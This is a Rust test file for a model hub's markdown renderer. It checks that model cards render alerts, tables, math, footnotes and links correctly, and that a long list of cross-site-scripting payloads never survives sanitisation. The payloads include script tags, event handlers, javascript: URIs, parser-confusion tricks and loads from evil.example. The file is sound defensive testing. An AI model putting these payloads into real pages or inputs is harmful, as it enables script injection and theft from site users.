//! Cards: what is rendered, and a collection of what must never run.

use crate::world::World;
use steelyard_testkit::Stores;
use steelyard_web::markdown::{Place, render};

const CARD: &str = "---\nlicense: mit\npipeline_tag: text-classification\nnew_version: alice/newer\n---\n# Title\n\n\
> [!WARNING]\n> Mind it.\n\n| a | b |\n|---|--:|\n| x | 1 |\n\n- [x] done\n- [ ] open\n\nMath $x^2$ and a note[^1].\n\n\
![pic](images/p.png) [docs](./docs/a.md) [up](../../etc) [part](#title)\n\n```python\nimport os  # <b>\n```\n\n[^1]: The note.\n";

#[tokio::test]
async fn a_card_is_rendered_with_its_facts_beside_it() {
    for world in World::all().await {
        world.repo("model", "newer", false, &[("README.md", "# New")]).await;
        world.repo("model", "m", false, &[("README.md", CARD)]).await;
        let page = world.browse("/alice/m").await;
        page.has(&[
            "<title>alice/m · Steelyard</title>",
            "There is a newer version: <a href=\"/alice/newer\">alice/newer</a>",
            "markdown-alert-warning",
            "<td align=\"right\">1</td>",
            "<input ",
            "<math",
            "<msup>",
            "href=\"#user-content-fn-1\"",
            "src=\"/alice/m/resolve/main/images/p.png\"",
            "href=\"/alice/m/blob/main/docs/a.md\"",
            "href=\"#user-content-title\"",
            "<span class=\"hk\">import</span>",
            "&lt;b&gt;",
            "Text Classification",
            "MIT",
            "Permissive",
            "snapshot_download",
            "http://hub.test",
        ]);
        page.lacks(&["pipeline_tag: text", "../etc", "/etc\""]);
        let text = world.browse("/alice/m.md").await;
        assert!(text.header("content-type").starts_with("text/markdown"));
        text.has(&["# alice/m (model)", "- Task: Text Classification", "> [!WARNING]"]);
    }
}

#[test]
fn formulas_are_read_as_cards_of_the_hub_write_them() {
    let html = |text: &str| render(text, &Place::default()).html;
    let shown = html("So \\\\(b^2_i * c_i * d\\\\) holds.");
    assert!(
        shown.contains("<msubsup>")
            && !shown.contains("<em>")
            && !shown.contains("display=\"block\""),
        "{shown}"
    );
    let shown = html("\\\\[\n\\frac{a}{b}\n\\\\]");
    assert!(shown.contains("<math display=\"block\">") && shown.contains("<mfrac>"), "{shown}");
    let code = html("`\\\\(a\\\\)`");
    assert!(code.contains("<code>\\\\(a\\\\)</code>"), "{code}");
}

#[tokio::test]
async fn a_repository_whose_name_ends_so_has_its_own_page() {
    let world = World::on(Stores::Embedded).await;
    world.repo("model", "notes", false, &[("README.md", "# Without")]).await;
    world.repo("model", "notes.md", false, &[("README.md", "# With")]).await;
    world.browse("/alice/notes.md").await.has(&["<!doctype html>", "With"]);
    let text = world.ask("GET", "/alice/notes", None, "text/markdown").await;
    text.has(&["# alice/notes (model)", "# Without"]);
}

/// What may not survive in any form that a browser would act on.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=\"//evil.example\"><input name=token><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onloadstart=alert(1) poster=\"javascript:alert(1)\"></video>",
    "<audio src=\"data:text/html,<script>alert(1)</script>\" onerror=alert(1)></audio>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x.png)",
    "![x](x.png \"t\\\" onerror=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<a id=\"main\" name=\"main\" href=\"#main\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x onload=alert(1)>",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "$\\text{</math><script>alert(1)</script>}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\\\(\\text{</math><script>alert(1)</script>}\\\\)",
    "\\\\[<img src=x onerror=alert(1)>\\\\]",
    "<img title=\"\\\\(\" src=x onerror=alert(1) alt=\"\\\\)\">",
    "`\\\\(`<script>alert(1)</script>`\\\\)`",
    "$<img src=x onerror=alert(1)>$",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "# <img src=x onerror=alert(1)>",
    "# \" onmouseover=\"alert(1)",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "<img src=\"x.png\" alt=\"math00000000000000000000000000000000n0e\">$x$",
    "<span class=\"hk top skip\" data-suggest data-filter=\"#main\">x</span>",
];

/// Tags and attributes of a piece of HTML, as a browser would cut it.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let Some(end) = rest.find('>') else { break };
        let tag = &rest[..end];
        rest = &rest[end + 1..];
        let name_end = tag.find(|c: char| c.is_whitespace()).unwrap_or(tag.len());
        let (name, mut more) = tag.split_at(name_end);
        let mut attributes = Vec::new();
        while let Some((key, after)) = more.split_once("=\"") {
            let (value, after) = after.split_once('"').unwrap_or((after, ""));
            attributes.push((key.trim().to_ascii_lowercase(), value.to_ascii_lowercase()));
            more = after;
        }
        found.push((name.trim_start_matches('/').to_ascii_lowercase(), attributes));
    }
    found
}

const FORBIDDEN: &[&str] = &[
    "script", "style", "iframe", "object", "embed", "base", "meta", "link", "form", "button",
    "svg", "textarea", "template", "select", "noscript", "xmp", "animate", "mglyph", "frame",
    "frameset", "applet", "portal",
];

#[track_caller]
fn assert_harmless(vector: &str, html: &str) {
    for (name, attributes) in tags(html) {
        assert!(!FORBIDDEN.contains(&name.as_str()), "<{name}> of {vector:?}: {html}");
        for (key, value) in attributes {
            let value = value.replace(|c: char| c.is_whitespace() || c.is_control(), "");
            assert!(
                !key.starts_with("on") && key != "style" && key != "srcdoc",
                "{key} of {vector:?}: {html}"
            );
            assert!(!key.starts_with("data-"), "{key} of {vector:?}: {html}");
            if ["href", "src", "poster", "action", "formaction", "cite"].contains(&key.as_str()) {
                let runs = ["javascript:", "vbscript:", "data:text", "data:image/svg"];
                assert!(
                    !runs.iter().any(|scheme| value.starts_with(scheme)),
                    "{value} of {vector:?}: {html}"
                );
                assert!(key != "href" || !value.starts_with("data:"), "{value} of {vector:?}");
            }
            if key == "id" {
                assert!(value.starts_with("user-content-"), "{value} of {vector:?}: {html}");
            }
            if key == "class" {
                assert!(!value.contains("top") && !value.contains("skip"), "{value} of {vector:?}");
            }
        }
    }
}

#[test]
fn nothing_in_a_card_runs() {
    let place = Place { base: "/a/b".into(), revision: "main".into(), folder: String::new() };
    for vector in VECTORS {
        for text in [
            (*vector).to_owned(),
            format!("x {vector} y"),
            format!("<div>\n\n{vector}\n\n</div>"),
            format!("> - {vector}"),
            vector.repeat(3),
        ] {
            assert_harmless(vector, &render(&text, &place).html);
        }
    }
    // One text may try to end what another began.
    let all = VECTORS.join("\n\n");
    assert_harmless("all of them", &render(&all, &place).html);
}

#[tokio::test]
async fn a_page_with_all_of_it_has_one_script_and_it_is_ours() {
    let world = World::on(Stores::Embedded).await;
    let card = VECTORS.join("\n\n");
    world.repo("model", "bad", false, &[("README.md", &card), ("sub/README.md", &card)]).await;
    for path in ["/alice/bad", "/alice/bad/tree/main/sub", "/alice/bad/blob/main/README.md"] {
        let page = world.browse(path).await;
        assert_eq!(page.status, 200, "{path}");
        let scripts = tags(&page.body).into_iter().filter(|(name, _)| name == "script");
        let sources: Vec<_> = scripts.flat_map(|(_, attributes)| attributes).collect();
        let ours =
            sources.iter().filter(|(key, value)| key == "src" && value.starts_with("/static/app-"));
        assert_eq!(ours.count(), 1, "{path}");
        assert_eq!(sources.iter().filter(|(key, _)| key == "src").count(), 1, "{path}");
    }
}
